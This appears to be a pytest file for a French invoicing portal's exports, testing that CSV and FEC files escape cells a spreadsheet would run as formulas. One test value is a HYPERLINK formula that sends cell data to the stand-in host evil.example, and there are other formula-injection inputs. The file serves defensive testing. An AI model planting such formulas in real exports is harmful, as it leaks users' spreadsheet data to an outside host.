"""SEC-3: text that a spreadsheet would run as a formula is written as text in every export."""
import csv
import datetime
import io

import pytest

from models import Invoice
from portal.company import update_company
from portal.exports import spreadsheet_safe
from portal.invoices.service import InvoiceData, LineData, create_invoice
from tests.factories import make_supplier

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
RIGHTS = ["export", "manage_suppliers", "approve_invoices", "pay_invoices"]
DAY = datetime.date(2025, 3, 10)
PERIOD = {"du": "2025-01-01", "au": "2025-12-31"}


@pytest.mark.parametrize("text,expected", [
    (EVIL, "'" + EVIL), ("+33 1 23", "+33 1 23"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
    ("\tcmd", "'\tcmd"), ("-12,50", "-12,50"), ("1 234,56", "1 234,56"), ("Dupont", "Dupont"), ("", ""),
    (1250, 1250), (None, None),
])
def test_sec_3_spreadsheet_safe(text, expected):
    assert spreadsheet_safe(text) == expected


@pytest.fixture
def evil_books(shop):
    update_company({"name": "Comptoir Démo", "siren": "552100554"}, None)
    supplier = make_supplier(EVIL, vat_number="", siren="")
    invoice = create_invoice(InvoiceData(
        shop=shop, supplier=supplier, number="=1+1", kind="INVOICE", issue_date=DAY, currency="EUR",
        total_net=1000, total_vat=200, total_gross=1200, lines=[LineData("@cmd", 1000, 1000, 2000)],
        vat_breakdown=[("S", 2000, 1000, 200)]), None)
    Invoice.update(status="APPROVED").where(Invoice.id == invoice.id).execute()
    return invoice


def _csv(response, delimiter=";", encoding="utf-8-sig"):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.reader(io.StringIO(response.get_data().decode(encoding), newline=""), delimiter=delimiter))


def _cells(rows):
    return [cell for row in rows for cell in row]


def test_sec_3_spend_csv_neutralises_formulas(client, login_as, shop, evil_books):
    login_as(rights=RIGHTS, shop=shop)
    cells = _cells(_csv(client.get("/rapports/depenses.csv", query_string=PERIOD)))
    assert "'" + EVIL in cells and "'=1+1" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_sec_3_entries_csv_and_fec_neutralise_formulas(client, login_as, shop, evil_books):
    login_as(rights=RIGHTS, shop=shop)
    cells = _cells(_csv(client.get("/comptabilite/ecritures.csv", query_string=PERIOD)))
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    fec = _cells(_csv(client.get("/comptabilite/fec", query_string=PERIOD), delimiter="\t", encoding="iso-8859-15"))
    assert "'" + EVIL in fec and not any(cell.startswith(("=", "+", "@")) for cell in fec)
